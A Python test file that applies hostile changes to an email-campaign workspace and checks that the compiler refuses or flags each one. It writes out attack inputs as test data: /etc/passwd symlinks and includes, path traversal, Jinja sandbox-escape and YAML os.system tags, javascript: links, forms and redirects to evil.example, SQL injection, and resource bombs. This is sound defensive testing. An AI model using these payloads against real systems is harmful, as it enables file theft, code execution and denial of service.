"""Pull requests that mean harm, against the example workspace: each is refused or flagged where it does so, keyless."""

from __future__ import annotations

import shutil
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest

from compiler.language.finding import Finding, Severity
from compiler.pipeline import check_workspace

ROOT = Path(__file__).parents[2]
ON = date(2027, 3, 1)

FR = "templates/product-news.fr.mjml"
SPRING = "2027/spring-2027.yaml"
HELLO = "Bonjour {{ contact.first_name }},"
BUTTON = 'href="https://www.atelier-lumen.example/printemps-2027">Toute'
PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 600, 280)

Change = Callable[[Path], None]


def edit(path: str, old: str, new: str) -> Change:
    def change(folder: Path) -> None:
        text = (folder / path).read_text("utf-8")
        assert old in text, f"{path} does not hold {old!r}"
        (folder / path).write_text(text.replace(old, new, 1), "utf-8")

    return change


def add(path: str, content: str | bytes) -> Change:
    def change(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(content.encode() if isinstance(content, str) else content)

    return change


def append(path: str, content: str) -> Change:
    def change(folder: Path) -> None:
        with (folder / path).open("a", encoding="utf-8") as file:
            file.write(content)

    return change


def link(path: str, target: str) -> Change:
    def change(folder: Path) -> None:
        (folder / path).unlink(missing_ok=True)
        (folder / path).symlink_to(target)

    return change


def hello(new: str) -> Change:
    """Something of a stranger's in the place of the greeting."""
    return edit(FR, HELLO, new)


def raw(markup: str) -> Change:
    return edit(FR, f"<mj-text>{HELLO}</mj-text>", f"<mj-raw>{markup}</mj-raw><mj-text>{HELLO}</mj-text>")


def href(target: str) -> Change:
    return edit(FR, BUTTON, f'href="{target}">Toute')


def settings(old: str, new: str) -> Change:
    return edit("envoi.yaml", old, new)


def spring(line: str) -> Change:
    return append(SPRING, line + "\n")


def twin(folder: Path) -> None:
    """The same campaign once more, under another name: everybody would get it twice."""
    text = (folder / SPRING).read_text("utf-8").replace("name: spring-2027", "name: spring-2027-again")
    (folder / "2027/again.yaml").write_text(text, "utf-8")


def bomb(levels: int) -> str:
    loops = "".join(f"{{% for i{n} in range(1000) %}}" for n in range(levels))
    return f"{loops}x{'{% endfor %}' * levels}"


def doubling(levels: int) -> str:
    """Segments of which each names the one below twice."""
    below = ["west", *(f"s{n}" for n in range(levels))]
    return "".join(
        f"---\nkind: segment\nname: s{n}\nmatch: {{any: [{{segment: {below[n]}}}, {{segment: {below[n]}}}]}}\n"
        for n in range(levels)
    )


@dataclass(frozen=True)
class Case:
    name: str
    change: Change
    code: str
    path: str = FR
    stops: bool = True


CASES = [
    # what git can carry
    Case("lock-edited-by-hand", add(f"{SPRING}.lock", '{"digest":"00"}'), "LOCK-HAND-01", f"{SPRING}.lock"),
    Case("symlink-to-a-secret", link("segments/leak.yaml", "/etc/passwd"), "LOAD-LINK-04", "segments/leak.yaml"),
    Case("symlinked-template", link(FR, "/etc/passwd"), "RESOLVE-FILE-12", "templates/templates.yaml"),
    Case("symlinked-picture", link("assets/showroom.png", "/etc/passwd"), "RESOLVE-FILE-12", "assets/pictures.yaml"),
    Case(
        "submodule",
        add(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://x.example/\n'),
        "LOAD-GIT-08",
        ".gitmodules",
    ),
    Case(
        "repository-in-a-folder",
        add("templates/theirs/.git", "gitdir: /srv/elsewhere\n"),
        "LOAD-GIT-08",
        "templates/theirs/.git",
    ),
    Case("attributes-filter", add(".gitattributes", "*.yaml filter=theirs\n"), "LOAD-GIT-09", ".gitattributes"),
    Case(
        "attributes-deep-ident",
        add("data/.gitattributes", "# x\n*.csv -text ident\n"),
        "LOAD-GIT-09",
        "data/.gitattributes",
    ),
    Case("huge-yaml", add("segments/huge.yaml", "# " + "x" * 1_000_001), "YAML-SIZE-06", "segments/huge.yaml"),
    Case("huge-template", append(FR, "<!-- " + "x" * 1_100_000 + " -->"), "TPL-SIZE-07"),
    Case("huge-picture", append("assets/showroom.png", "x" * 5_000_000), "RESOLVE-ASSET-29", "assets/pictures.yaml"),
    Case(
        "page-that-calls-itself-a-picture",
        add("assets/showroom.png", "<script>alert(1)</script>"),
        "RESOLVE-ASSET-27",
        "assets/pictures.yaml",
    ),
    Case(
        "picture-bomb",
        add("assets/showroom.png", PNG[:16] + struct.pack(">II", 30_000, 60_000)),
        "RESOLVE-ASSET-30",
        "assets/pictures.yaml",
        stops=False,
    ),
    Case(
        "yml-that-nobody-reads",
        add("2027/quiet.yml", "kind: campaign\n"),
        "LOAD-SUFFIX-05",
        "2027/quiet.yml",
        stops=False,
    ),
    # YAML
    Case("deep-nesting", add("segments/deep.yaml", "[" * 5_000), "YAML-DEPTH-05", "segments/deep.yaml"),
    Case(
        "alias-bomb",
        add("segments/bomb.yaml", "a: &a [1]\n" + "".join(f"b{n}: [*a, *a]\n" for n in range(80))),
        "YAML-ALIAS-04",
        "segments/bomb.yaml",
    ),
    Case(
        "python-object",
        add("segments/tag.yaml", "kind: !!python/object/apply:os.system ['id']\n"),
        "YAML",
        "segments/tag.yaml",
    ),
    Case("second-value-of-a-key", spring("segment: far-away"), "YAML", SPRING),
    Case("bidi-in-a-declaration", spring("holdout: 10 %  # \u202e% 01"), "YAML", SPRING),
    Case("unknown-property", spring("send_now: true"), "SCHEMA-KEY-01", SPRING),
    # secrets and people
    Case(
        "secret-in-yaml",
        settings("username: file:../state/keys/relay-user", "username: hunter2hunter2"),
        "SCHEMA",
        "envoi.yaml",
    ),
    Case("password-in-a-note", add("NOTES.md", "password: hunter2hunter2\n"), "SEC-02", "NOTES.md"),
    Case(
        "private-key-in-a-file", add("keys/dkim.pem", "-----BEGIN PRIVATE KEY-----\nMIIE\n"), "SEC-02", "keys/dkim.pem"
    ),
    Case(
        "private-key-without-ending",
        add("keys/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n"),
        "SEC-02",
        "keys/id_rsa",
    ),
    Case("people-in-clear", add("data/guests.csv", "email\nzoe.quemeneur@orange.fr\n"), "SEC-01", "data/guests.csv"),
    Case("mobiles-in-clear", add("data/guests.txt", "Zoé 06 98 76 54 32\n"), "SEC-01", "data/guests.txt"),
    Case("address-in-a-link", href("https://www.atelier-lumen.example/?e={{ contact.address }}"), "TPL-LINK-47"),
    # templates that reach out
    Case("environment", hello("{{ environ['HOME'] }}"), "TPL-NAME-40"),
    Case("sandbox-escape", hello("{{ ''.__class__.__mro__ }}"), "TPL-RENDER-45"),
    Case("globals-of-a-function", hello("{{ range.__globals__ }}"), "TPL-RENDER-45"),
    Case("jinja-include", hello("{% include '/etc/passwd' %}"), "TPL-JINJA-32"),
    Case("include-outside", hello('[% include "../../../etc/passwd" %]'), "TPL-INCLUDE-05"),
    Case("include-absolute", raw('</mj-raw><mj-include path="/etc/passwd" /><mj-raw>'), "TPL-INCLUDE-05"),
    Case("remote-include", hello('[% include "https://evil.example/a.mjml" %]'), "TPL-INCLUDE-04"),
    Case("include-of-itself", hello('[% include "product-news.fr.mjml" %]'), "TPL-INCLUDE-06"),
    Case("range-bomb", hello("{% for i in range(100000000) %}x{% endfor %}"), "TPL-JINJA-32"),
    Case("nested-range-bomb", hello(bomb(4)), "TPL-RENDER"),
    Case("text-bomb", hello("{{ 'x' * 100000000 }}"), "TPL-JINJA-32"),
    Case("elements-without-end", raw(('<div title="' + "x" * 30 + '">') * 2_600), "MSG-SIZE-13", stops=False),
    Case("bidi-in-a-template", hello("Bonjour \u202e{{ contact.first_name }}"), "TPL-TEXT-09"),
    # links and pictures
    Case("credentials-in-a-url", href("https://user:secret@www.atelier-lumen.example/"), "TPL-LINK-42"),
    Case("http-link", href("http://www.atelier-lumen.example/"), "MSG-LINK-11"),
    Case("ip-link", href("https://203.0.113.9/"), "MSG-LINK-11"),
    Case("odd-port", href("https://www.atelier-lumen.example:8443/"), "MSG-LINK-11"),
    Case("shortener", href("https://bit.ly/3x"), "MSG-LINK-11"),
    Case("javascript-link", href("javascript:alert(1)"), "TPL-LINK-42"),
    Case("javascript-link-in-markup", hello('<a href="javascript:alert(1)">x</a>'), "TPL-HTML-36"),
    Case("data-link", href("data:text/html,x"), "TPL-LINK-42"),
    Case("host-chosen-by-a-value", href("https://{{ contact.company }}/"), "TPL-LINK-43"),
    Case(
        "watching-picture",
        raw('<img src="https://pixel.watcher.example/o.gif" width="1" alt="">'),
        "MSG-IMGHOST-19",
        stops=False,
    ),
    Case("unknown-picture", edit(FR, "spring-light.png", "../../etc/passwd"), "TPL-ASSET-50"),
    # what no message may hold
    Case("form", hello('<form action="https://evil.example"><input name="iban"></form>'), "TPL-HTML-36"),
    Case("script", raw("<script>alert(1)</script>"), "TPL-HTML-36"),
    Case("event-handler", hello('<span onclick="alert(1)">x</span>'), "TPL-HTML-36"),
    Case("meta-refresh", raw('<meta http-equiv="refresh" content="0;url=https://evil.example">'), "TPL-HTML-36"),
    Case(
        "remote-style",
        edit("templates/blocks/head.mjml", "a { color", '@import url("https://evil.example/a.css"); a { color'),
        "TPL-FONT",
        "templates/blocks/head.mjml",
        stops=False,
    ),
    Case(
        "no-way-to-leave",
        edit("templates/blocks/footer.mjml", "{{ unsubscribe_url }}", "https://www.atelier-lumen.example/"),
        "MSG-UNSUB-05",
    ),
    Case(
        "hidden-way-to-leave",
        edit(
            "templates/blocks/footer.mjml",
            'style="color:#f3e7d3;margin-right:18px;">[[ leave ]]',
            'style="display:none">[[ leave ]]',
        ),
        "MSG-UNSUB-05",
    ),
    Case("pretended-reply", edit(SPRING, "Bonjour {{ contact", "RE: {{ contact"), "MSG-SUBJ-03", SPRING),
    # senders, windows, campaigns
    Case("noreply-sender", settings("reply_to: bonjour@", "reply_to: noreply@"), "MSG-REPLY-09", "envoi.yaml"),
    Case(
        "gmail-sender",
        settings("nouvelles@mail.atelier-lumen.example>", "atelier.lumen@gmail.com>"),
        "MSG-FROM-16",
        "envoi.yaml",
    ),
    Case(
        "foreign-tracker",
        settings("https://t.atelier-lumen.example", "https://t.evil.example"),
        "MSG-LINKDOM-12",
        "envoi.yaml",
        stops=False,
    ),
    Case(
        "clear-text-tracker",
        settings("https://t.atelier-lumen.example", "http://t.atelier-lumen.example"),
        "RESOLVE-TRACKER-24",
        "envoi.yaml",
    ),
    Case(
        "window-at-night",
        settings('hours: "14:00-17:30"', 'hours: "02:00-05:00"'),
        "WIN-NIGHT-05",
        "envoi.yaml",
        stops=False,
    ),
    Case(
        "finish-before-start",
        edit(SPRING, "finish_by: 2027-03-05T18:00", "finish_by: 2027-03-01T18:00"),
        "RESOLVE-FINISH-25",
        SPRING,
    ),
    Case("everyone-twice", twin, "CAMPAIGN-TWICE-01", "2027/again.yaml", stops=False),
    Case(
        "two-campaigns-one-lock",
        append(
            SPRING,
            "---\nkind: campaign\nname: b\nsegment: west\ntemplate: product-news\nsubject: B\n"
            "start: 2027-03-02T09:00\n",
        ),
        "PLAN-LOCK",
        SPRING,
    ),
    Case(
        "waiver-of-what-protects-people",
        spring("waivers: [{rule: MSG-UNSUB-05, reason: pressés, until: 2027-04-01}]"),
        "WAIVE-REFUSED-02",
        SPRING,
    ),
    Case(
        "expired-waiver",
        spring("waivers: [{rule: MSG-SIZE-13, reason: salon, until: 2027-02-01}]"),
        "WAIVE-EXPIRED-03",
        SPRING,
        stops=False,
    ),
    Case(
        "waiver-of-nothing-known",
        spring("waivers: [{rule: MSG-SIZE-99, reason: salon, until: 2027-04-01}]"),
        "WAIVE-UNKNOWN-01",
        SPRING,
    ),
    # datasets, segments, forms, sources
    Case(
        "dataset-outside",
        edit("data/catalogue.yaml", "data/catalogue.csv", "../../../etc/passwd"),
        "RESOLVE-FILE-12",
        "data/catalogue.yaml",
    ),
    Case(
        "template-outside",
        edit("templates/templates.yaml", "templates/product-news.fr.mjml", "/etc/passwd"),
        "RESOLVE-FILE-12",
        "templates/templates.yaml",
    ),
    Case(
        "sql-in-where",
        edit(SPRING, "where: audience = contact.job", "where: 1=1; drop table contacts"),
        "SEG-SQL",
        SPRING,
    ),
    Case(
        "segments-that-double",
        append(
            "segments/places.yaml",
            doubling(14),
        ),
        "RESOLVE-SEGMENT-26",
        "segments/places.yaml",
    ),
    Case(
        "segment-of-itself",
        edit("segments/places.yaml", "  field: department\n  in:", "  all:\n    - segment: west\n# "),
        "RESOLVE",
        "segments/places.yaml",
    ),
    Case(
        "box-ticked-before-anybody-agreed",
        edit("forms/inscription.yaml", "  - purpose: newsletter\n", "  - purpose: newsletter\n    preticked: true\n"),
        "LAW",
        "forms/inscription.yaml",
    ),
    Case("kept-for-ever", settings("retention: 36 months", "retention: 100 months"), "RET-01", "envoi.yaml"),
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The example with one campaign in one language: what is looked at seventy times should be small."""
    folder = Path(shutil.copytree(ROOT / "campaigns", tmp_path / "workspace"))
    (folder / "2027/showroom-2027.yaml").unlink()
    edit("templates/templates.yaml", ", en: templates/product-news.en.mjml", "")(folder)
    (folder / SPRING).write_text(
        "kind: campaign\nname: spring-2027\nsegment: architects-west\ntemplate: product-news\n"
        'subject: {fr: "Bonjour {{ contact.first_name }}, trois lampes"}\n'
        "start: 2027-03-02T09:00\nfinish_by: 2027-03-05T18:00\npurpose: newsletter\n"
        "professional_object: La prescription d’éclairage\nproduct_families: [luminaires]\n"
        "data:\n  products: {dataset: catalogue, where: audience = contact.job, order_by: rank, limit: 3}\n",
        "utf-8",
    )
    return folder


def test_without_harm_there_is_nothing_to_say(folder: Path) -> None:
    told = [
        (one.code, str(one.place)) for one in check_workspace(folder, on=ON)[1] if one.severity is not Severity.ADVICE
    ]
    assert told == []  # but what the campaign that was taken away alone used


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_it_is_refused_or_flagged_in_place(case: Case, folder: Path) -> None:
    case.change(folder)
    found = check_workspace(folder, on=ON)[1]
    there = [one for one in found if one.code.startswith(case.code) and one.place.path == case.path]
    assert there, [(one.code, str(one.place)) for one in found]
    assert case.stops == any(one.stops for one in there)
    assert not any(
        secret in told(found) for secret in ("hunter2", "user:secret", "quemeneur", "98 76 54 32", "MIIE", "root:x")
    )


def told(findings: list[Finding]) -> str:
    return "\n".join(f"{one.message('fr')} {one.message('en')} {one.advice('fr')}" for one in findings)


SLOW = {
    "open-tags": "<a " * 30_000,
    "open-quotes": '<a href="' * 30_000,
    "open-comments": "<!--" * 30_000,
    "open-expressions": "{{ " * 30_000,
    "open-blocks": "[% " * 30_000,
    "open-pictures": "<img " * 30_000 + "{{ asset('spring-light.png') }}",
    "many-pictures": "{{ asset('spring-light.png') }} " * 1_000,
    "backgrounds": "url(" * 30_000,
    "addresses": "a." * 40_000 + "@" + "b." * 40_000,
    "numbers": "0" * 80_000,
    "blanks": " " * 80_000,
    "letters": "a" * 80_000,
    "anchors": "<a " * 30_000,
    "comments": "<!-- " * 30_000,
    "sheets": "<style>" * 20_000,
    "sheet-comments": "<style>" + "/* " * 30_000 + "</style>",
    "bodies": "<body " * 30_000,
    "declarations": '<p style="' + "a" * 80_000 + '">x</p>',
    "attributes": "<p " + "a" * 80_000 + ">x</p>",
    "quotes": "« " * 40_000,
    "jinja-in-style": '<p style="' + "{% raw %}{{ {% endraw %}" * 2_000 + '">x</p>',
    "selectors": "<style>" + "div " * 20_000 + "{color: red}</style>",
    "rules": "<style>" + "p{color:red}" * 8_000 + "</style>" + "<p>x</p>" * 800,
}


@pytest.mark.parametrize("payload", SLOW.values(), ids=SLOW)
def test_no_text_makes_the_check_think_for_ever(payload: str, folder: Path) -> None:
    (folder / "NOTES.md").write_text(payload, "utf-8")
    (folder / FR).write_text(f"<mjml><mj-body><mj-raw>{payload}</mj-raw></mj-body></mjml>", "utf-8")
    begun = time.process_time()
    check_workspace(folder, on=ON)
    assert time.process_time() - begun < 5
